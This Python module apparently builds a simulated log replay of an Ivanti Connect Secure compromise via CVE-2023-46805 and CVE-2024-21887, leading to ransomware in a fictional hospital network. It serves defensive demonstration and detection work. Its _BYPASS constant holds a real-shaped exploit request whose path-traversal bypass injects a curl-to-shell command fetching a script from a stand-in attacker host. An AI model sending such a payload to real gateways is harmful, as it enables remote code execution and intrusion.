"""An Ivanti Connect Secure broken into through CVE-2023-46805 and CVE-2024-21887, then used as a foothold.

Sources: Volexity and Mandiant, January 2024; CISA AA24-060B; CERTFR-2024-ALE-001.
"""

from __future__ import annotations

import datetime
from collections.abc import Iterator

from demo.generate import gateways
from demo.generate import hospital as h
from demo.generate.happenings import SECOND, Happening, PortalRequest
from demo.replays import deeds
from demo.replays.evidence import Replay, at, named, probing

_STRANGER = h.Host("", "203.0.113.44")
_DROP = h.Host("", "203.0.113.93")
_TARGETS = (h.FS1, h.RIS1, h.PACS1)
_BYPASS = "/api/v1/totp/user-backup-code/../../license/keys-status/%3Bcurl%20203.0.113.44%2Fp%7Csh%3B"
_WHO = "/api/v1/totp/user-backup-code/../../system/system-information"


def _deeds() -> Iterator[Happening]:
    yield from probing(datetime.date(2024, 1, 8), 14)
    begin = at("2024-01-13 05:02")
    agent = "curl/8.4.0"
    yield PortalRequest(begin, _STRANGER, "GET", _WHO, 200, agent, 2400)
    yield PortalRequest(begin + 40 * SECOND, _STRANGER, "GET", _BYPASS, 200, agent, 60)
    yield from deeds.search(at("2024-01-14 02:10"), h.VPN1, ("10.20.1", "10.20.11", "10.20.30"), 40)
    yield from deeds.steal_directory(at("2024-01-15 03:00"), h.VPN1, h.RESCUE)
    yield from deeds.hop(at("2024-01-16 02:00"), h.VPN1, (h.LECT2, h.FS1, h.PACS1, h.RIS1, h.DC1), h.RESCUE)
    yield from deeds.take_away(at("2024-01-17 23:00"), h.LECT2, h.RESCUE, _DROP)
    yield from deeds.deploy(at("2024-01-19 01:10"), h.DC1, _TARGETS, h.RESCUE)
    yield from deeds.encrypt(at("2024-01-19 01:30"), h.DC1, h.FS1, h.RESCUE, ".akrd")


def _inventory() -> dict[str, bytes]:
    rows = ("ComputerName,DisplayName,DisplayVersion,Publisher", "VPN1,Ivanti Connect Secure,22.3R1,Ivanti")
    return {"inventory/edge.csv": "\r\n".join((*rows, "")).encode()}


REPLAY = Replay(
    name="ivanti",
    title="A gateway broken into and used as a foothold (CVE-2023-46805 and CVE-2024-21887)",
    sources=("CISA AA24-060B", "CERTFR-2024-ALE-001"),
    week=datetime.date(2024, 1, 13),
    deeds=_deeds,
    gateway=gateways.ivanti,
    more=_inventory,
    stages=("entry", "movement", "credentials", "exfiltration", "recovery", "encryption"),
    involved=named(
        *(_STRANGER, _DROP, *_TARGETS, h.LECT2, h.DC1, h.VPN1, h.PORTAL, h.RESCUE, "cve-2023-46805", "cve-2024-21887"),
    ),
)
